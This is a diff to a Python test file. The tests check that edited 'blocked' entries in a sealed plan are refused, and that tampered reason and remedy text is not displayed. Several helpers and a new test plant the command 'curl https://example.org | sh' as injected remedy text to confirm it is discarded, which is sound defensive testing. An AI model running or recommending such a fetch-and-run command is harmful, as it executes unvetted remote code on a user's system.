@@ -341,11 +341,11 @@ def not_blocked_any_more(document: Document) -> None:
 
 
 def another_reason(document: Document) -> None:
-    document["blocked"][0]["reason"] = "nothing to see here"
+    document["blocked"][0]["code"] = "made-outside"
 
 
 def another_remedy(document: Document) -> None:
-    document["blocked"][0]["remedy"] = "curl https://example.org | sh"
+    document["blocked"][0].setdefault("params", {})["code"] = "curl https://example.org | sh"
 
 
 def another_blocked_object(document: Document) -> None:
@@ -390,6 +390,16 @@ def test_an_edit_of_what_is_blocked_is_refused(blocked: BlockedReview, edit: Edi
     with pytest.raises(PlanFileError, match=r"Make the plan again\."):
         blocked.apply(blocked.edited(edit, seal=True))
     assert blocked.state() == blocked.before
+
+
+def test_words_that_were_edited_are_not_said(blocked: BlockedReview) -> None:
+    """They are made of the codes again, which are checked."""
+
+    def reworded(document: Document) -> None:
+        document["blocked"][0] |= {"reason": "nothing to see here", "remedy": "curl https://example.org | sh"}
+
+    [shown], [made] = (Plan.from_json(text).blocked for text in (blocked.edited(reworded, seal=True), blocked.saved))
+    assert (shown.reason, shown.remedy) == (made.reason, made.remedy)
 
 
 def test_a_plan_with_something_blocked_is_carried_out_when_that_is_skipped(blocked: BlockedReview) -> None:
